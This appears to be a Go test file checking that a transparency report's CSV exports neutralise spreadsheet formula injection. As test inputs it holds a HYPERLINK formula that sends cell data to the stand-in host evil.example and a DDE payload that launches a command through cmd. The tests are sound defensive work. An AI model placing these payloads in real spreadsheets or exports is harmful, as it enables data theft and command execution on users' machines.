package report_test

import (
	"bytes"
	"encoding/csv"
	"testing"

	"envelope/exporter/csvsafe"
	"envelope/exporter/report"
)

// csvWriters are every CSV the report writes, by name.
var csvWriters = map[string]func(*report.Report, *bytes.Buffer) error{
	"csv":               func(r *report.Report, b *bytes.Buffer) error { return r.WriteCSV(b) },
	"national_security": func(r *report.Report, b *bytes.Buffer) error { return r.WriteNationalSecurityCSV(b) },
}

// A report whose text cells carry formulas (a country code can only be two
// letters when a case is logged, but the writer must not rely on that)
// writes no cell a spreadsheet would run, in any CSV shape.
func TestReportCSVCannotRunFormulas(t *testing.T) {
	attack := `=HYPERLINK("http://evil.example/?"&A1)`
	r := &report.Report{Period: period(t, "2026-Q3"), Rows: []report.Row{{Country: attack}}}
	r.Totals = report.Sum(r.Rows)
	r.NationalSecurity = report.NationalSecurity{Country: "+" + attack, Rows: []report.BandsRow{{Process: "@nsl", Requests: "-1", Accounts: "0-499"}}}
	for name, write := range csvWriters {
		var b bytes.Buffer
		if err := write(r, &b); err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		recs, err := csv.NewReader(&b).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		neutralised := 0
		for _, rec := range recs {
			for _, cell := range rec {
				if csvsafe.Dangerous(cell) {
					t.Errorf("%s: cell %q would run as a formula", name, cell)
				}
				if len(cell) > 1 && cell[0] == '\'' {
					neutralised++
				}
			}
		}
		if neutralised == 0 {
			t.Errorf("%s: no attack reached the file; the test proves nothing", name)
		}
	}
}

// The public shapes neutralise a formula in any text cell (the DSA's
// service name is the one an admin types).
func TestShapesCSVCannotRunFormulas(t *testing.T) {
	s, err := report.GenerateShapes(ctx, shapesDB(t), period(t, "2026-Q3"), at, report.ShapeOptions{Service: "=cmd|' /C calc'!A0"})
	if err != nil {
		t.Fatal(err)
	}
	for name, write := range shapeWriters {
		var b bytes.Buffer
		if err := write(s, &b); err != nil {
			t.Fatal(err)
		}
		for _, rec := range readCSV(t, b.Bytes()) {
			for _, cell := range rec {
				if csvsafe.Dangerous(cell) {
					t.Errorf("%s: cell %q would run as a formula", name, cell)
				}
			}
		}
	}
}
